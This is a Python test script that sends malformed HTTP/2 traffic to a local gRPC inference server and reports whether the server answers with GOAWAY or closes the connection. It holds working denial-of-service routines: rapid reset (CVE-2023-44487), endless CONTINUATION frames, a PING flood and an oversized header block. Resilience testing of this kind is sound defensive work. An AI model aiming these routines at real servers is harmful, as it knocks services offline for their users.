#!/usr/bin/env python3
"""Misuses HTTP/2 in one way and prints how the server ended the connection, as JSON.

usage: hostile_http2.py PORT rapid-reset|endless-head|ping-flood|long-head|nothing

The error code of the server's GOAWAY (RFC 9113, section 7) if there was one, and whether it closed the connection.
"""
import json
import socket
import struct
import sys

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

HEADERS, RST_STREAM, PING, CONTINUATION = 1, 3, 6, 9
FIELDS = [
    (":method", "POST"), (":scheme", "http"), (":path", "/inference.GRPCInferenceService/ModelInfer"),
    (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers"),
]


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def rapid_reset(connection):
    """Asks and takes it back at once, ten thousand times (CVE-2023-44487)."""
    for _ in range(10_000):
        stream = connection.get_next_available_stream_id()
        connection.send_headers(stream, FIELDS)
        connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        yield connection.data_to_send()


def endless_head(connection):
    """A head that is continued for ever, without a limit that a single frame breaks."""
    block = connection.encoder.encode(FIELDS)
    yield frame(HEADERS, 0, 1, block)
    field = b"\x00" + bytes([6]) + b"x-name" + bytes([100]) + b"v" * 100
    for _ in range(10_000):
        yield frame(CONTINUATION, 0, 1, field * 50)


def ping_flood(_):
    """Asks for a million signs of life and reads none."""
    pings = frame(PING, 0, 0, b"12345678") * 1_000
    for _ in range(1_000):
        yield pings


def long_head(connection):
    """One head of many fields, 1 MB in all."""
    connection.send_headers(1, FIELDS + [(f"x-{number}", "v" * 1_000) for number in range(1_000)])
    yield connection.data_to_send()


def nothing(connection):
    """No misuse: a call with an empty message."""
    connection.send_headers(1, FIELDS)
    connection.send_data(1, bytes(5), end_stream=True)
    yield connection.data_to_send()


WAYS = {way.__name__.replace("_", "-"): way for way in (rapid_reset, endless_head, ping_flood, long_head, nothing)}


def ended(connection, peer):
    """What the server said at the end; it must end, or answer, in ten seconds."""
    report = {"goaway": None, "reset": None, "answered": False, "closed": False}
    try:
        while not any(report.values()):
            received = peer.recv(65_536)
            report["closed"] = not received
            for event in connection.receive_data(received):
                if isinstance(event, h2.events.ConnectionTerminated):
                    report["goaway"] = int(event.error_code)
                elif isinstance(event, h2.events.StreamReset):
                    report["reset"] = int(event.error_code)
                elif isinstance(event, h2.events.ResponseReceived):
                    report["answered"] = True
    except TimeoutError:
        pass
    except (OSError, h2.exceptions.ProtocolError):
        report["closed"] = True
    return report


def main(port, way):
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    with socket.create_connection(("127.0.0.1", int(port)), timeout=10) as peer:
        connection.initiate_connection()
        peer.sendall(connection.data_to_send())
        try:
            for content in WAYS[way](connection):
                peer.sendall(content)
        except OSError:
            pass
        print(json.dumps(ended(connection, peer)))


if __name__ == "__main__":
    main(*sys.argv[1:])
